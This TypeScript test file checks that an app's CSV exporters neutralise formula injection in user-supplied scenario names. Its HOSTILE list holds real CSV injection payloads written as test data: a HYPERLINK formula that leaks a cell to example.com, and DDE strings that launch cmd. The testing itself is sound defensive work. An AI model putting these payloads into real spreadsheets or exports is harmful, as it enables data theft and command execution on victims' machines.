import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { scenarioView, type Scenario } from '../../sim';
import { csvChunks as cliCsvChunks } from '../../sim/cli/format';
import { scenarioPlans } from '../../main/cli/scenarioPlans';
import { csvCell, csvLine, csvQuote, csvText } from '../../sim/text/csvCell';
import { BOM, buildCsv, buildParametersCsv } from '../../renderer/src/export/csv';
import { csvStreamChunks } from '../../renderer/src/export/csvStream';
import { weekScenario } from '../sim/scheduleWeek';

/**
 * CSV injection (OWASP): user text that starts with = + - @ tab or CR must reach no CSV as a formula. A table
 * of hostile names goes through every CSV writer (app data CSV, streamed data CSV, parameters CSV, command
 * line CSV); each file is parsed back with Papa Parse (RFC 4180), and no text cell may start a formula.
 */
const HOSTILE = [
  '=HYPERLINK("http://example.com/?leak="&A1,"click for details")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1,2\r\n"quoted"',
];

const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$/;

function cells(csv: string): string[][] {
  const text = csv.startsWith(BOM) ? csv.slice(BOM.length) : csv;
  const parsed = Papa.parse<string[]>(text.trimEnd(), { newline: text.includes('\r\n') ? '\r\n' : '\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** Every cell that is not a plain number must not start a formula. */
function expectNoFormula(csv: string): void {
  for (const row of cells(csv)) {
    for (const cell of row) {
      if (NUMBER.test(cell)) continue;
      expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
    }
  }
}

function hostile(name: string): Scenario {
  const s = weekScenario();
  s.name = name;
  s.regimens[0]!.label = name;
  s.regimens[1]!.label = `${name} (2)`;
  return s;
}

const dir = mkdtempSync(join(tmpdir(), 'k2-injection-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('csvCell: the one guard every CSV writer uses', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-x', "'-x"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['MK-7', 'MK-7'],
    ["'already", "'already"],
  ])('csvText(%j) is %j', (input, expected) => {
    expect(csvText(input)).toBe(expected);
  });

  it('keeps numbers numbers, quotes as RFC 4180 needs', () => {
    expect(csvCell('-0.5')).toBe('-0.5');
    expect(csvCell('-1e-7')).toBe('-1e-7');
    expect(csvCell('+3')).toBe('+3');
    expect(csvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('-')).toBe("'-");
    expect(csvQuote('a "b", c')).toBe('"a ""b"", c"');
    expect(csvLine(['=x', '-2', 'a,b'])).toBe('\'=x,-2,"a,b"');
  });
});

describe.each(HOSTILE)('a scenario and labels named %j', (name) => {
  it('the parameters CSV keeps the name as text, prefixed, and numbers as numbers', () => {
    const csv = buildParametersCsv(scenarioView(hostile(name)), { appVersion: '1' });
    expectNoFormula(csv);
    const rows = cells(csv);
    expect(rows.find((r) => r[1] === 'scenario')![2]).toBe(`'${name}`);
    expect(rows.find((r) => r[1] === 'label')![2]).toBe(`'${name}`);
    expect(rows.every((r) => r.length === 5)).toBe(true);
    // A negative number stays a number (a dose moved 90 min earlier).
    const s = hostile(name);
    s.regimens[0]!.schedule!.edits.push({ key: '2026-03-29#0', moveMin: -90 });
    const moved = cells(buildParametersCsv(scenarioView(s), { appVersion: '1' })).find(
      (r) => r[1] === 'moved' && r[0]!.includes('2026-03-29'),
    );
    expect(moved![2]).toBe('-90');
  });

  it('the data CSVs (whole and streamed) and the command line CSV carry no formula', () => {
    const s = hostile(name);
    s.horizonDays = 2;
    expectNoFormula(buildCsv(scenarioView(s)));
    expectNoFormula([...csvStreamChunks(s)].map((c) => new TextDecoder().decode(c.bytes)).join(''));
    const file = join(dir, 'hostile.k2.json');
    writeFileSync(file, JSON.stringify(s));
    expectNoFormula([...cliCsvChunks(scenarioPlans(file))].map((c) => new TextDecoder().decode(c)).join(''));
  });
});
